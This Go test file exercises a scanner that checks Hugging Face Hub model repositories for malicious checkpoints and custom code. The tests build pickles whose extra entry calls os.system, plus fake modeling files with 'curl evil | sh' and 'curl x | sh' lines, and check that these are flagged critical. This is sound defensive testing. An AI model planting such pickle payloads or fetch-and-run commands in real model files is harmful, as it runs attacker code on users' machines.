package remote_test

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/modelgate/modelgate/internal/finding"
	"github.com/modelgate/modelgate/internal/hub"
	"github.com/modelgate/modelgate/internal/hub/hubtest"
	pt "github.com/modelgate/modelgate/internal/pickle/pickletest"
	"github.com/modelgate/modelgate/internal/remote"
	"github.com/modelgate/modelgate/internal/scan"
)

// sparseWriter records what archive/zip writes, keeping only the chunks
// that are not all zeros: a 1 GiB checkpoint of zero tensors costs its
// pickle and directories, not its size.
type sparseWriter struct {
	off    int64
	chunks map[int64][]byte
}

func (w *sparseWriter) Write(p []byte) (int, error) {
	if !allZero(p) {
		w.chunks[w.off] = bytes.Clone(p)
	}
	w.off += int64(len(p))
	return len(p), nil
}

var zeroBlock = make([]byte, 1<<20)

func allZero(p []byte) bool {
	for len(p) > 0 {
		n := min(len(p), len(zeroBlock))
		if !bytes.Equal(p[:n], zeroBlock[:n]) {
			return false
		}
		p = p[n:]
	}
	return true
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// torchCheckpoint returns a torch.save-layout zip whose data.pkl is pkl and
// whose one storage holds storage bytes (zeros), as a generator.
func torchCheckpoint(t testing.TB, pkl []byte, storage int64) (int64, func([]byte, int64)) {
	t.Helper()
	sw := &sparseWriter{chunks: map[int64][]byte{}}
	zw := zip.NewWriter(sw)
	add := func(name string, r io.Reader) {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Store})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.CopyBuffer(w, r, make([]byte, 1<<20)); err != nil {
			t.Fatal(err)
		}
	}
	add("archive/data.pkl", bytes.NewReader(pkl))
	add("archive/data/0", io.LimitReader(zeros{}, storage))
	add("archive/version", strings.NewReader("3\n"))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return sw.off, hubtest.Sparse(sw.off, sw.chunks)
}

// stateDict is a one-tensor state dict as torch 1.13 pickles it; with
// payload set, an extra entry runs os.system (what a malicious checkpoint
// does when torch.load unpickles it).
func stateDict(numel int32, payload bool) []byte {
	p := pt.New().Proto(2).Global("collections", "OrderedDict").EmptyTuple().Reduce().Mark().
		Str("w").Global("torch._utils", "_rebuild_tensor_v2").Mark().
		Mark().Str("storage").Global("torch", "FloatStorage").Str("0").Str("cpu").Int(numel).Tuple().Raw('Q').
		Int(0).Int(numel).Tuple1().Int(1).Tuple1().Raw(0x89).
		Global("collections", "OrderedDict").EmptyTuple().Reduce().
		Tuple().Reduce()
	if payload {
		p.Str("x").Global("posix", "system").Str("echo pwned").Tuple1().Reduce()
	}
	return p.Raw('u').Stop().Bytes()
}

func newClient(s *hubtest.Server) *hub.Client {
	c := hub.New(s.URL, "", 0)
	c.Backoff, c.MaxBackoff = time.Millisecond, 10*time.Millisecond
	return c
}

func worst(r scan.FileResult) finding.Severity {
	w := finding.Info
	for _, f := range r.Findings {
		w = max(w, f.Severity)
	}
	return w
}

const gib = 1 << 30

// A malicious 1 GiB checkpoint is flagged while under 1 % of it crosses
// the network; its benign twin passes the same way.
func TestLargeCheckpointFewBytes(t *testing.T) {
	hubSrv := hubtest.New()
	defer hubSrv.Close()
	for _, tc := range []struct {
		repo    string
		payload bool
	}{{"org/evil", true}, {"org/good", false}} {
		size, gen := torchCheckpoint(t, stateDict(gib/4, tc.payload), gib)
		hubSrv.AddRepo(hubtest.Repo{ID: tc.repo, Files: []hubtest.File{
			{Path: "pytorch_model.bin", Size: size, Gen: gen, LFS: true, SHA256: strings.Repeat("ab", 32)},
			{Path: "README.md", Content: []byte("# a model\n")},
		}})
		hubSrv.Reset()
		c := newClient(hubSrv)
		src, files := remote.Scan(context.Background(), scan.New(), c, "hf://"+tc.repo)
		if src.Error != "" || len(files) != 1 {
			t.Fatalf("%s: source %+v, files %+v", tc.repo, src, files)
		}
		f := files[0]
		if len(f.Errors) > 0 {
			t.Fatalf("%s: errors %v", tc.repo, f.Errors)
		}
		if f.Format != "pytorch-zip" && !strings.Contains(f.Format, "pytorch") {
			t.Errorf("%s: format %q", tc.repo, f.Format)
		}
		if tc.payload && worst(f) != finding.Critical {
			t.Errorf("%s: worst severity %v, want critical; findings %+v", tc.repo, worst(f), f.Findings)
		}
		if !tc.payload && worst(f) >= finding.Medium {
			t.Errorf("%s: benign checkpoint has findings %+v", tc.repo, f.Findings)
		}
		served := hubSrv.BytesServed()
		if served*100 >= size {
			t.Errorf("%s: %d of %d bytes transferred (≥ 1 %%)", tc.repo, served, size)
		}
		if src.Transferred != c.Received() || src.Size != size+10 {
			t.Errorf("%s: source accounting %+v", tc.repo, src)
		}
		if !strings.Contains(f.Path, "@") || !strings.Contains(f.Path, src.Commit) || len(src.Commit) != 40 {
			t.Errorf("%s: path %q is not pinned to the commit %q", tc.repo, f.Path, src.Commit)
		}
		if f.SHA256 != strings.Repeat("ab", 32) {
			t.Errorf("%s: sha256 %q is not the LFS oid", tc.repo, f.SHA256)
		}
		t.Logf("%s: %d bytes of %d transferred (%.4f %%)", tc.repo, served, size, 100*float64(served)/float64(size))
	}
}

func TestGatedRepoClearError(t *testing.T) {
	hubSrv := hubtest.New()
	defer hubSrv.Close()
	hubSrv.AddRepo(hubtest.Repo{ID: "org/gated", Gated: true, Files: []hubtest.File{
		{Path: "model.pkl", Content: stateDict(1, false), LFS: true},
	}})
	src, files := remote.Scan(context.Background(), scan.New(), newClient(hubSrv), "hf://org/gated")
	if len(files) != 1 || len(files[0].Errors) == 0 {
		t.Fatalf("want one failed file, got %+v", files)
	}
	msg := files[0].Errors[0]
	if !strings.Contains(msg, "gated") || !strings.Contains(msg, "HF_TOKEN") {
		t.Errorf("error %q does not say the repository is gated and what to do", msg)
	}
	_ = src
	// With the token, the same repository scans.
	c := newClient(hubSrv)
	c.Token = hubSrv.Token
	_, files = remote.Scan(context.Background(), scan.New(), c, "hf://org/gated")
	if len(files) != 1 || len(files[0].Errors) > 0 {
		t.Fatalf("with the token: %+v", files)
	}
}

func TestNotFoundErrors(t *testing.T) {
	hubSrv := hubtest.New()
	defer hubSrv.Close()
	hubSrv.AddRepo(hubtest.Repo{ID: "org/m", Files: []hubtest.File{{Path: "a.pkl", Content: stateDict(1, false)}}})
	for in, want := range map[string]string{
		"hf://org/none":         "repository not found",
		"hf://org/m@nobranch":   "revision not found",
		"hf://org/m/missing.pt": "file not found",
	} {
		_, files := remote.Scan(context.Background(), scan.New(), newClient(hubSrv), in)
		if len(files) != 1 || len(files[0].Errors) == 0 || !strings.Contains(files[0].Errors[0], want) {
			t.Errorf("%s: got %+v, want an error with %q", in, files, want)
		}
	}
}

func TestRetriesRateLimit(t *testing.T) {
	hubSrv := hubtest.New()
	defer hubSrv.Close()
	hubSrv.AddRepo(hubtest.Repo{ID: "org/m", Files: []hubtest.File{{Path: "a.pkl", Content: stateDict(1, true)}}})
	hubSrv.FailNext(2, http.StatusTooManyRequests, "0")
	_, files := remote.Scan(context.Background(), scan.New(), newClient(hubSrv), "hf://org/m")
	if len(files) != 1 || len(files[0].Errors) > 0 || worst(files[0]) != finding.Critical {
		t.Fatalf("after two 429s: %+v", files)
	}
	n429 := 0
	for _, r := range hubSrv.Requests() {
		if r.Status == http.StatusTooManyRequests {
			n429++
		}
	}
	if n429 != 2 {
		t.Errorf("%d requests answered 429, want 2", n429)
	}
	// More failures than retries: a clear error, no verdict.
	hubSrv.FailNext(10, http.StatusServiceUnavailable, "")
	_, files = remote.Scan(context.Background(), scan.New(), newClient(hubSrv), "hf://org/m")
	if len(files) != 1 || len(files[0].Errors) == 0 || !strings.Contains(files[0].Errors[0], "503") {
		t.Errorf("after persistent 503s: %+v", files)
	}
}

func TestRetryAfterHonoured(t *testing.T) {
	hubSrv := hubtest.New()
	defer hubSrv.Close()
	hubSrv.AddRepo(hubtest.Repo{ID: "org/m", Files: []hubtest.File{{Path: "a.pkl", Content: stateDict(1, false)}}})
	hubSrv.FailNext(1, http.StatusTooManyRequests, "1")
	start := time.Now()
	_, files := remote.Scan(context.Background(), scan.New(), newClient(hubSrv), "hf://org/m")
	if len(files) != 1 || len(files[0].Errors) > 0 {
		t.Fatalf("%+v", files)
	}
	if d := time.Since(start); d < time.Second {
		t.Errorf("Retry-After: 1 was not waited for (%v)", d)
	}
}

// Pagination, nested folders, optional files, the repository-level
// custom-code check through sibling reads, and a renamed repository.
func TestRepositoryWalk(t *testing.T) {
	hubSrv := hubtest.New()
	defer hubSrv.Close()
	hubSrv.Update(func(s *hubtest.Server) { s.PageSize = 2 })
	config := `{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}`
	code := "import os\nos.system('curl evil | sh')\nclass XModel: pass\n"
	hubSrv.AddRepo(hubtest.Repo{ID: "org/custom", RenamedFrom: "old/custom", Files: []hubtest.File{
		{Path: "config.json", Content: []byte(config)},
		{Path: "modeling_x.py", Content: []byte(code)},
		{Path: "README.md", Content: []byte("hello")},
		{Path: "sub/dir/weights.pkl", Content: stateDict(4, false)},
		{Path: "sub/notes.txt", Content: []byte("notes")},
	}})
	for _, in := range []string{"hf://org/custom", "hf://old/custom"} {
		src, files := remote.Scan(context.Background(), scan.New(), newClient(hubSrv), in)
		if src.Error != "" || src.Files != 5 {
			t.Fatalf("%s: %+v", in, src)
		}
		var rules []string
		var paths []string
		for _, f := range files {
			paths = append(paths, f.Path[strings.LastIndex(f.Path, "/")+1:])
			for _, x := range f.Findings {
				rules = append(rules, fmt.Sprintf("%s:%s", x.RuleID, x.Severity))
			}
		}
		if !strings.Contains(strings.Join(rules, " "), "HF-REMOTE-CODE:critical") {
			t.Errorf("%s: custom code with os.system not flagged critical: %v", in, rules)
		}
		if strings.Contains(strings.Join(paths, " "), "README.md") || strings.Contains(strings.Join(paths, " "), "notes.txt") {
			t.Errorf("%s: documentation files reported: %v", in, paths)
		}
	}
}

// A server that ignores Range: the file is streamed once and still scanned.
func TestIgnoreRangeFallback(t *testing.T) {
	hubSrv := hubtest.New()
	defer hubSrv.Close()
	hubSrv.Update(func(s *hubtest.Server) { s.IgnoreRange = true })
	hubSrv.AddRepo(hubtest.Repo{ID: "org/m", Files: []hubtest.File{{Path: "a.pkl", Content: stateDict(1, true), LFS: true}}})
	_, files := remote.Scan(context.Background(), scan.New(), newClient(hubSrv), "hf://org/m")
	if len(files) != 1 || len(files[0].Errors) > 0 || worst(files[0]) != finding.Critical {
		t.Fatalf("%+v", files)
	}
}

// An https:// URL of a Hub file is read as that file at its commit; a
// datasets reference and a single-file reference work the same way.
func TestURLsAndSingleFiles(t *testing.T) {
	hubSrv := hubtest.New()
	defer hubSrv.Close()
	commit := hubSrv.AddRepo(hubtest.Repo{ID: "org/m", Files: []hubtest.File{
		{Path: "a.pkl", Content: stateDict(1, true), LFS: true},
		{Path: "b.pkl", Content: stateDict(1, false)},
	}})
	hubSrv.AddRepo(hubtest.Repo{Type: "dataset", ID: "org/d", Files: []hubtest.File{{Path: "data/x.pkl", Content: stateDict(1, true)}}})
	for in, wantCritical := range map[string]bool{
		hubSrv.URL + "/org/m/resolve/main/a.pkl": true,
		hubSrv.URL + "/org/m/blob/main/b.pkl":    false,
		"hf://org/m@" + commit + "/b.pkl":        false,
		"hf://datasets/org/d":                    true,
	} {
		_, files := remote.Scan(context.Background(), scan.New(), newClient(hubSrv), in)
		if len(files) != 1 || len(files[0].Errors) > 0 {
			t.Fatalf("%s: %+v", in, files)
		}
		if got := worst(files[0]) == finding.Critical; got != wantCritical {
			t.Errorf("%s: critical %v, want %v (%+v)", in, got, wantCritical, files[0].Findings)
		}
		if !strings.Contains(files[0].Path, commit) && !strings.Contains(in, "datasets") {
			t.Errorf("%s: path %q not pinned to %s", in, files[0].Path, commit)
		}
	}
}

// A repository laid out like a real Llama-style Hub model (configs, a
// SentencePiece tokenizer, a chat template, safetensors and a torch.save
// state dict written by the real libraries, docs) passes clean; the same
// repository with custom code that shells out fails.
func TestRealisticRepository(t *testing.T) {
	read := func(p string) []byte {
		b, err := os.ReadFile(filepath.Join("..", "formats", p))
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	files := []hubtest.File{
		{Path: ".gitattributes", Content: []byte("*.safetensors filter=lfs diff=lfs merge=lfs -text\n")},
		{Path: "README.md", Content: []byte("---\nlicense: apache-2.0\n---\n# tiny llama\n")},
		{Path: "config.json", Content: []byte(`{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 8}`)},
		{Path: "generation_config.json", Content: []byte(`{"bos_token_id": 1, "eos_token_id": 2}`)},
		{Path: "tokenizer_config.json", Content: []byte(`{"bos_token": "<s>", "chat_template": "{% for message in messages %}{{ '<|' + message['role'] + '|>\n' + message['content'] + eos_token }}{% endfor %}"}`)},
		{Path: "special_tokens_map.json", Content: []byte(`{"bos_token": "<s>", "eos_token": "</s>"}`)},
		{Path: "tokenizer.json", Content: []byte(`{"version": "1.0", "model": {"type": "BPE", "vocab": {}}}`)},
		{Path: "tokenizer.model", Content: read("sentencepiece/testdata/benign/unigram.model"), LFS: true},
		{Path: "model.safetensors", Content: read("safetensors/testdata/benign/multi.safetensors"), LFS: true},
		{Path: "pytorch_model.bin", Content: read("pytorch/testdata/benign/state-dict-p4.pt"), LFS: true},
	}
	srv := hubtest.New()
	defer srv.Close()
	srv.AddRepo(hubtest.Repo{ID: "org/tiny-llama", Files: files})
	custom := append([]hubtest.File{}, files...)
	custom[2] = hubtest.File{Path: "config.json", Content: []byte(`{"model_type": "llama", "auto_map": {"AutoModelForCausalLM": "modeling_llama.LlamaForCausalLM"}}`)}
	custom = append(custom, hubtest.File{Path: "modeling_llama.py", Content: []byte("import subprocess\nsubprocess.run(['sh', '-c', 'curl x | sh'])\n")})
	srv.AddRepo(hubtest.Repo{ID: "org/tiny-llama-custom", Files: custom})

	src, res := remote.Scan(context.Background(), scan.New(), newClient(srv), "hf://org/tiny-llama")
	formats := map[string]string{}
	for _, f := range res {
		formats[f.Path[strings.LastIndex(f.Path, "/")+1:]] = f.Format
		if len(f.Errors) > 0 || worst(f) >= finding.Medium {
			t.Errorf("%s (%s): errors %v, findings %+v", f.Path, f.Format, f.Errors, f.Findings)
		}
	}
	for name, want := range map[string]string{"tokenizer.model": "sentencepiece", "model.safetensors": "safetensors",
		"config.json": "hf-config", "tokenizer_config.json": "hf-config"} {
		if formats[name] != want {
			t.Errorf("%s analysed as %q, want %q (all: %v)", name, formats[name], want, formats)
		}
	}
	if !strings.Contains(formats["pytorch_model.bin"], "pytorch") {
		t.Errorf("pytorch_model.bin analysed as %q", formats["pytorch_model.bin"])
	}
	if src.Files != len(files) {
		t.Errorf("source %+v", src)
	}
	_, res = remote.Scan(context.Background(), scan.New(), newClient(srv), "hf://org/tiny-llama-custom")
	failed := false
	for _, f := range res {
		failed = failed || worst(f) == finding.Critical
	}
	if !failed {
		t.Errorf("custom code running subprocess not flagged critical")
	}
}
